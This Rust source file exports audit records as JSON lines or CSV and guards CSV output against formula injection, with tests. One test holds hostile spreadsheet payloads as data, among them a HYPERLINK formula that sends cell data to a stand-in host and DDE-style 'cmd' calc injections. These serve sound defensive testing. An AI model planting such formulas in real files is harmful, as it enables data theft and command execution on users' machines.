//! Exporting a tenant's audit records (all, one lead's, or a time range) as JSON lines
//! or CSV, for reviewers and for data subjects' access requests.

use std::fmt;
use std::io::Write;
use std::str::FromStr;

use serde::{Deserialize, Serialize};

use super::{AuditError, AuditRecord};
use crate::consent::ParseError;
use crate::store::{AuditFilter, AuditStore};

/// An export format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ExportFormat {
    /// One JSON object per line, fields named as in [`AuditRecord`].
    Jsonl,
    /// A header line, then one line per record, columns in [`AuditRecord`] order;
    /// absent values are empty cells, and a text cell beginning with `=`, `+`,
    /// `-`, `@`, a tab or a carriage return gets a leading `'` (see `neutralise_cell`).
    Csv,
}

impl fmt::Display for ExportFormat {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            ExportFormat::Jsonl => "jsonl",
            ExportFormat::Csv => "csv",
        })
    }
}

impl FromStr for ExportFormat {
    type Err = ParseError;

    fn from_str(s: &str) -> Result<Self, ParseError> {
        match s {
            "jsonl" => Ok(ExportFormat::Jsonl),
            "csv" => Ok(ExportFormat::Csv),
            _ => Err(ParseError {
                kind: "export format",
                value: s.to_owned(),
                allowed: "jsonl, csv".to_owned(),
            }),
        }
    }
}

/// The CSV header: [`AuditRecord`]'s fields in order, the actor's spread over four
/// `actor_*` columns (empty on a plugin's record).
const CSV_HEADER: [&str; 19] = [
    "tenant",
    "seq",
    "time_ms",
    "plugin",
    "plugin_version",
    "component_digest",
    "call_id",
    "lead",
    "resource",
    "purpose",
    "decision",
    "reason",
    "consent_id",
    "prev_hash",
    "hash",
    "actor_key_id",
    "actor_role",
    "actor_address",
    "actor_operation",
];

/// Writes the tenant's records matching `filter` to `out` in sequence order; returns
/// how many were written. Records carry their hashes, so a full (unfiltered) JSON-lines
/// export can be checked with [`super::verify`] elsewhere.
pub async fn export(
    store: &dyn AuditStore,
    tenant: &str,
    filter: &AuditFilter,
    format: ExportFormat,
    out: impl Write,
) -> Result<usize, AuditError> {
    let records = store.audit_records(tenant, filter).await?;
    write_records(&records, format, out)?;
    Ok(records.len())
}

fn write_records(
    records: &[AuditRecord],
    format: ExportFormat,
    mut out: impl Write,
) -> Result<(), AuditError> {
    let failed = |detail: String| AuditError::Export { format, detail };
    match format {
        ExportFormat::Jsonl => {
            for record in records {
                serde_json::to_writer(&mut out, record).map_err(|e| failed(e.to_string()))?;
                out.write_all(b"\n").map_err(|e| failed(e.to_string()))?;
            }
            out.flush().map_err(|e| failed(e.to_string()))
        }
        ExportFormat::Csv => {
            let mut csv = csv::WriterBuilder::new()
                .has_headers(false)
                .from_writer(out);
            csv.write_record(CSV_HEADER)
                .map_err(|e| failed(e.to_string()))?;
            for record in records {
                let row = csv_row(record).map_err(|e| failed(e.to_string()))?;
                csv.write_record(&row).map_err(|e| failed(e.to_string()))?;
            }
            csv.flush().map_err(|e| failed(e.to_string()))
        }
    }
}

/// One record as CSV cells in [`CSV_HEADER`] order: numbers as written,
/// absent values empty, and every text cell through [`neutralise_cell`]. The
/// record goes through its JSON form, so text and numbers stay apart and a
/// field added to [`AuditRecord`] cannot skip the neutralising.
fn csv_row(record: &AuditRecord) -> Result<Vec<String>, serde_json::Error> {
    let serde_json::Value::Object(fields) = serde_json::to_value(record)? else {
        return Err(serde::ser::Error::custom(
            "an audit record is not an object",
        ));
    };
    Ok(CSV_HEADER
        .iter()
        .map(|column| match cell(&fields, column) {
            None | Some(serde_json::Value::Null) => String::new(),
            Some(serde_json::Value::String(text)) => neutralise_cell(text),
            Some(other) => other.to_string(),
        })
        .collect())
}

/// The value of `column`: a field of the record, or (`actor_<field>`) a field of
/// its actor.
fn cell<'r>(
    fields: &'r serde_json::Map<String, serde_json::Value>,
    column: &str,
) -> Option<&'r serde_json::Value> {
    match column.strip_prefix("actor_") {
        Some(actor_field) => fields.get("actor")?.get(actor_field),
        None => fields.get(column),
    }
}

/// A text cell made safe to open in a spreadsheet (OWASP's advice against
/// CSV injection): a cell beginning with `=`, `+`, `-`, `@`, a tab or a
/// carriage return would be read as a formula (`=HYPERLINK(...)`,
/// `+cmd|...`, `@SUM(...)`), so it gets a leading `'`, which spreadsheets
/// show as text and do not evaluate. Only text cells are neutralised: a
/// number (a negative one starts with `-`) is written as it is, since a
/// number is never a formula. Every CSV this host writes goes through here.
pub fn neutralise_cell(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::record::tests::context;
    use crate::audit::{GENESIS_HASH, verify};
    use crate::consent::{Decision, DenyReason, Purpose};

    fn records() -> Vec<AuditRecord> {
        let ctx = context("acme");
        let first = AuditRecord::seal(
            &ctx.entry(
                "phone",
                Purpose::CallHandling,
                &Decision::Allow { consent_id: 3 },
                5,
            ),
            1,
            GENESIS_HASH,
        );
        let mut anonymous = context("acme");
        anonymous.lead = None;
        let second = AuditRecord::seal(
            &anonymous.entry(
                "message:sms, \"quoted\"",
                Purpose::Marketing,
                &Decision::Deny(DenyReason::LeadRestricted),
                6,
            ),
            2,
            &first.hash,
        );
        vec![first, second]
    }

    #[test]
    fn jsonl_round_trips_and_still_verifies() {
        let records = records();
        let mut out = Vec::new();
        write_records(&records, ExportFormat::Jsonl, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let back: Vec<AuditRecord> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(back, records);
        assert!(verify(&back).is_clean());
        assert!(
            text.lines()
                .next()
                .unwrap()
                .starts_with("{\"tenant\":\"acme\",\"seq\":1,")
        );
    }

    #[test]
    fn csv_has_a_header_and_quotes_what_needs_it() {
        let records = records();
        let mut out = Vec::new();
        write_records(&records, ExportFormat::Csv, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], CSV_HEADER.join(","));
        assert!(lines[1].starts_with("acme,1,5,reminder,1.0.0,sha256:abcd,call-1,lead-0123456789abcdef,phone,call-handling,allowed,,3,"), "{}", lines[1]);
        assert!(
            lines[2]
                .contains(",,\"message:sms, \"\"quoted\"\"\",marketing,denied,lead-restricted,,"),
            "{}",
            lines[2]
        );
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        assert_eq!(reader.records().count(), 2);

        let mut empty = Vec::new();
        write_records(&[], ExportFormat::Csv, &mut empty).unwrap();
        assert_eq!(
            String::from_utf8(empty).unwrap().lines().count(),
            1,
            "header only"
        );
    }

    #[test]
    fn formula_cells_are_neutralised_in_the_csv_and_numbers_are_not() {
        let mut records = records();
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ];
        for (i, text) in hostile.iter().enumerate() {
            let mut record = records[0].clone();
            record.call_id = (*text).to_owned();
            record.plugin = (*text).to_owned();
            record.seq = -(i as i64) - 1;
            records.push(record);
        }
        let mut out = Vec::new();
        write_records(&records, ExportFormat::Csv, &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), records.len());
        for (row, text) in rows[2..].iter().zip(hostile) {
            // plugin (column 3) and call_id (column 6): quoted, whole.
            assert_eq!(&row[3], format!("'{text}"));
            assert_eq!(&row[6], format!("'{text}"));
            // seq is a number: a negative one is written as it is.
            assert!(row[1].starts_with('-'), "{:?}", &row[1]);
        }
        for row in &rows {
            for cell in row.iter().filter(|c| c.parse::<f64>().is_err()) {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a text cell begins with a formula character: {cell:?}"
                );
            }
        }
        assert_eq!(neutralise_cell("call-1"), "call-1");
        assert_eq!(neutralise_cell(""), "");
    }

    #[test]
    fn a_person_s_record_exports_its_actor_and_still_verifies() {
        let mut records = records();
        let mut entry = context("acme").entry(
            "name,phone",
            Purpose::CallHandling,
            &Decision::Allow { consent_id: 1 },
            7,
        );
        entry.purpose = crate::audit::AuditPurpose::Administration;
        entry.consent_id = None;
        entry.actor = Some(crate::audit::AuditActor {
            key_id: "0123456789abcdef".into(),
            role: "tenant-admin".into(),
            address: "10.0.0.7".into(),
            operation: "lead.read".into(),
        });
        let previous = records[1].hash.clone();
        records.push(AuditRecord::seal(&entry, 3, &previous));

        let mut jsonl = Vec::new();
        write_records(&records, ExportFormat::Jsonl, &mut jsonl).unwrap();
        let back: Vec<AuditRecord> = String::from_utf8(jsonl)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(back, records);
        assert!(verify(&back).is_clean());

        let mut csv = Vec::new();
        write_records(&records, ExportFormat::Csv, &mut csv).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        let actor_cells: Vec<&str> = rows[2].iter().skip(15).collect();
        assert_eq!(
            actor_cells,
            ["0123456789abcdef", "tenant-admin", "10.0.0.7", "lead.read"]
        );
        assert!(rows[0].iter().skip(15).all(str::is_empty), "{:?}", rows[0]);
    }

    #[test]
    fn formats_parse_and_name_bad_input() {
        assert_eq!("csv".parse::<ExportFormat>().unwrap(), ExportFormat::Csv);
        assert_eq!(
            "jsonl".parse::<ExportFormat>().unwrap().to_string(),
            "jsonl"
        );
        assert_eq!(
            "xml".parse::<ExportFormat>().unwrap_err().to_string(),
            "unknown export format 'xml': expected one of jsonl, csv"
        );
    }
}
